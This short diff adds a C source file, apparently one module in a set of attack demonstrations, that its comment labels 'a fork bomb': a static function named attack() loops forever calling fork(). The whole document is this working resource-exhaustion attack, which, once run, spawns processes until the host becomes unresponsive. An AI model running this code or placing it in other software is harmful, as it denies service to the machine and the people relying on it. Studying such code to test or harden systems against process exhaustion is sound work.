@@ -1,0 +1,8 @@
+/* Resources: a fork bomb. */
+#include "attack.h"
+
+static void attack(void)
+{
+    for (;;)
+        fork();
+}
